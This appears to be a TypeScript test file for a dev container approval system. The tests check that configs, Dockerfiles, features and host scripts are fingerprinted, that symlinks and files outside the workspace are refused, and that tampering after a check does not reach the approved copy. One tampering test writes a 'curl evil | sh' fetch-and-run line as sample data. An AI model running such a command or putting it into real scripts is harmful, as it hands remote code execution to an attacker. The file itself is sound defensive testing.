// What a dev container approval covers, with real files: the fingerprint of devcontainer.json
// (JSONC), its Dockerfile, local features and the scripts initializeCommand names; what is
// refused outright (symlinks, files outside the folder); the approvals store outside the
// workspace; and the approved copy `up` reads, written from the bytes that were checked.
import { test } from "node:test";
import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, readFileSync, realpathSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { execFileSync } from "node:child_process";
import { basename, join } from "node:path";
import { HarnessError } from "../../../extension/harness/errors.js";
import { approveCurrent, ConfigApprovals, requireApproved } from "../../../extension/harness/sandbox/devcontainer/approvals.js";
import { writeApprovedCopy } from "../../../extension/harness/sandbox/devcontainer/approvedCopy.js";
import { readConfigSnapshot } from "../../../extension/harness/sandbox/devcontainer/configSnapshot.js";
import { planProtection } from "../../../extension/harness/sandbox/devcontainer/protectedMounts.js";

/** sha256 of deerflow-devcontainer-fingerprint/1 over the one config below, as approvals recorded it before issue 21. */
const PINNED_FINGERPRINT = "4d382e7107f2cc2635d5c33bec1a1b21ea73daba9fd3f95f0cda38f95768c34c";

function workspace(config: string, files: Record<string, string> = {}): string {
  const ws = realpathSync(mkdtempSync(join(tmpdir(), "deerflow-approval-ws-")));
  mkdirSync(join(ws, ".devcontainer"));
  writeFileSync(join(ws, ".devcontainer", "devcontainer.json"), config);
  for (const [rel, text] of Object.entries(files)) {
    mkdirSync(join(ws, rel, ".."), { recursive: true });
    writeFileSync(join(ws, rel), text);
  }
  return ws;
}

function dataDir(): string {
  return mkdtempSync(join(tmpdir(), "deerflow-approval-data-"));
}

function refused(pattern: RegExp) {
  return (err: unknown): boolean => err instanceof HarnessError && err.code === "sandbox_bringup_failed" && pattern.test(err.message);
}

const WITH_EVERYTHING = `{
  // comments and trailing commas, as devcontainer.json allows
  "build": { "dockerfile": "Dockerfile", "context": ".." },
  "features": { "./hello": {}, "ghcr.io/devcontainers/features/node:1": {} },
  "initializeCommand": "bash .devcontainer/init.sh --fast",
  "remoteEnv": { "TOKEN": "\${localEnv:GH_TOKEN}", "HOME_DIR": "\${localEnv:HOME:/root}" },
  "runArgs": ["--privileged"],
  "postCreateCommand": "echo created",
}`;
const FILES = {
  ".devcontainer/Dockerfile": "FROM debian\n",
  ".devcontainer/hello/devcontainer-feature.json": '{"id":"hello"}',
  ".devcontainer/hello/install.sh": "echo hello\n",
  ".devcontainer/init.sh": "echo init\n",
};

test("the snapshot names every file up reads, the host command, the host variables and what to review", () => {
  const s = readConfigSnapshot(workspace(WITH_EVERYTHING, FILES));
  assert.deepEqual(
    s.files.map((f) => [f.rel, f.role]),
    [
      [".devcontainer/devcontainer.json", "config"],
      [".devcontainer/Dockerfile", "dockerfile"],
      [".devcontainer/hello/devcontainer-feature.json", "feature"],
      [".devcontainer/hello/install.sh", "feature"],
      [".devcontainer/init.sh", "host-script"],
    ],
  );
  assert.deepEqual(s.hostCommands, ["bash .devcontainer/init.sh --fast"]);
  assert.deepEqual(s.localEnv, ["GH_TOKEN", "HOME"]);
  assert.ok(s.notes.includes('runArgs: ["--privileged"]'), s.notes.join("\n"));
  assert.ok(s.notes.some((n) => n.startsWith("features: ./hello, ghcr.io/")));
  assert.ok(s.notes.includes("postCreateCommand (in the container): echo created"));
  assert.match(s.fingerprint, /^[0-9a-f]{64}$/);
});

test("any change to any of those files is a new fingerprint; the same bytes are the same one", () => {
  const ws = workspace(WITH_EVERYTHING, FILES);
  const before = readConfigSnapshot(ws).fingerprint;
  assert.equal(readConfigSnapshot(ws).fingerprint, before);
  for (const rel of [".devcontainer/devcontainer.json", ...Object.keys(FILES)]) {
    const path = join(ws, rel);
    const original = readFileSync(path);
    writeFileSync(path, Buffer.concat([original, Buffer.from(rel.endsWith(".json") ? " " : "\n# edited\n")]));
    assert.notEqual(readConfigSnapshot(ws).fingerprint, before, `${rel} is covered`);
    writeFileSync(path, original);
  }
  assert.equal(readConfigSnapshot(ws).fingerprint, before);
});

test("scripts a host command names through a variable or a nested shell are covered too", () => {
  const ws = workspace(
    JSON.stringify({ image: "x", initializeCommand: { a: "${localWorkspaceFolder}/scripts/a.sh", b: ["sh", "-c", "bash ./b.sh && make"] } }),
    { "scripts/a.sh": "echo a\n", "b.sh": "echo b\n" },
  );
  const s = readConfigSnapshot(ws);
  assert.deepEqual(s.files.filter((f) => f.role === "host-script").map((f) => f.rel), ["b.sh", "scripts/a.sh"]);
  assert.deepEqual(s.hostCommands, ["a: ${localWorkspaceFolder}/scripts/a.sh", 'b: "sh" "-c" "bash ./b.sh && make"']);
});

test("a FIFO where a file should be is refused at once, never read (a read would hang)", () => {
  const ws = workspace('{ "build": { "dockerfile": "Dockerfile" } }');
  execFileSync("mkfifo", [join(ws, ".devcontainer", "Dockerfile")]);
  assert.throws(() => readConfigSnapshot(ws), refused(/\.devcontainer\/Dockerfile is not a file/));
});

test("symlinks and files outside the folder are refused by name, never read", () => {
  const linked = workspace('{ "build": { "dockerfile": "Dockerfile" } }');
  symlinkSync("/etc/hostname", join(linked, ".devcontainer", "Dockerfile"));
  assert.throws(() => readConfigSnapshot(linked), refused(/\.devcontainer\/Dockerfile is a symbolic link/));

  const outside = workspace('{ "build": { "dockerfile": "../../Dockerfile" } }');
  assert.throws(() => readConfigSnapshot(outside), refused(/outside the workspace folder/));

  const feature = workspace('{ "image": "x", "features": { "./f": {} } }', { ".devcontainer/f/devcontainer-feature.json": "{}" });
  symlinkSync("/etc/passwd", join(feature, ".devcontainer", "f", "install.sh"));
  assert.throws(() => readConfigSnapshot(feature), refused(/f\/install\.sh is a symbolic link/));

  const script = workspace('{ "image": "x", "initializeCommand": ["./run.sh"] }');
  symlinkSync("/bin/true", join(script, "run.sh"));
  assert.throws(() => readConfigSnapshot(script), refused(/run\.sh is a symbolic link/));

  const configLink = realpathSync(mkdtempSync(join(tmpdir(), "deerflow-approval-ws-")));
  symlinkSync(join(workspace('{ "image": "x" }'), ".devcontainer"), join(configLink, ".devcontainer"));
  assert.throws(() => readConfigSnapshot(configLink), refused(/outside the workspace folder|symbolic link/));
});

test("approvals live in the data dir, never the workspace; an approval covers exactly one fingerprint", () => {
  const ws = workspace('{ "image": "x", "initializeCommand": "touch /tmp/m" }');
  const approvals = new ConfigApprovals(dataDir(), ws);
  assert.ok(!approvals.dir.startsWith(ws));
  assert.throws(() => requireApproved(approvals), (err: unknown) => err instanceof HarnessError && err.code === "sandbox_config_unapproved" && /is not approved yet/.test(err.message) && /run on this machine: `touch \/tmp\/m`/.test(err.message));
  const approved = approveCurrent(approvals);
  assert.equal(requireApproved(approvals).fingerprint, approved.fingerprint);
  writeFileSync(join(ws, ".devcontainer", "devcontainer.json"), '{ "image": "x", "initializeCommand": "touch /tmp/other" }');
  assert.throws(() => requireApproved(approvals), (err: unknown) => err instanceof HarnessError && /changed since it was approved/.test(err.message));
  assert.throws(() => approveCurrent(approvals, approved.fingerprint), (err: unknown) => err instanceof HarnessError && /changed after it was shown/.test(err.message));
  // Going back to what was approved needs no second yes.
  writeFileSync(join(ws, ".devcontainer", "devcontainer.json"), '{ "image": "x", "initializeCommand": "touch /tmp/m" }');
  assert.equal(requireApproved(approvals).fingerprint, approved.fingerprint);
  assert.throws(() => new ConfigApprovals(join(ws, "data"), ws), (err: unknown) => err instanceof HarnessError && /inside the workspace/.test(err.message));
});

test("the approved copy is written from the checked bytes: an edit after the check does not reach it", async () => {
  const ws = workspace(WITH_EVERYTHING, FILES);
  const approvals = new ConfigApprovals(dataDir(), ws);
  approveCurrent(approvals);
  const checked = requireApproved(approvals);
  // Between the check and `up`: the workspace's files change.
  writeFileSync(join(ws, ".devcontainer", "Dockerfile"), "FROM evil\n");
  writeFileSync(join(ws, ".devcontainer", "hello", "install.sh"), "curl evil | sh\n");
  const plan = await planProtection(ws, checked.config);
  const copy = writeApprovedCopy(approvals, checked, plan);
  assert.ok(copy.configPath.startsWith(approvals.dir));
  assert.ok(copy.configPath.endsWith("/.devcontainer/devcontainer.json"));
  const config = JSON.parse(readFileSync(copy.configPath, "utf8"));
  assert.equal(readFileSync(config.build.dockerfile, "utf8"), "FROM debian\n");
  assert.ok(config.build.dockerfile.startsWith(approvals.dir));
  assert.equal(config.build.context, ws, "the build context stays the workspace's (relative to the original config)");
  assert.equal(readFileSync(join(copy.configPath, "..", "hello", "install.sh"), "utf8"), "echo hello\n");
  assert.equal(config.initializeCommand, "bash .devcontainer/init.sh --fast");
  assert.deepEqual(copy.idLabels, [`devcontainer.local_folder=${ws}`, `devcontainer.config_file=${join(ws, ".devcontainer", "devcontainer.json")}`]);
  // DeerFlow's own protection rides along: read-only mounts of the protected paths, and the label.
  const target = `/workspaces/${basename(ws)}`;
  assert.ok(config.mounts.includes(`type=bind,source=${join(ws, ".devcontainer")},target=${target}/.devcontainer,readonly`), JSON.stringify(config.mounts));
  assert.ok(config.mounts.includes(`type=bind,source=${join(ws, ".git")},target=${target}/.git,readonly`), "an absent .git is a placeholder");
  assert.deepEqual(config.runArgs.slice(-2), ["--label", `deerflow.protection=${plan.hash}`]);
});

test("the fingerprint is of the user's files only: an approval recorded before the read-only mounts existed still holds", () => {
  // The mounts depend on the tree at each bring-up and are added to the copy, not to what is
  // approved; this pins the fingerprint's shape so a change to it is a deliberate one.
  const ws = workspace('{ "image": "local/debian-minbase:bookworm", "runArgs": ["--network", "none"] }\n');
  assert.equal(readConfigSnapshot(ws).fingerprint, PINNED_FINGERPRINT);
  mkdirSync(join(ws, ".vscode"));
  writeFileSync(join(ws, ".vscode", "tasks.json"), "{}");
  assert.equal(readConfigSnapshot(ws).fingerprint, PINNED_FINGERPRINT, "protected paths in the tree change nothing");
});
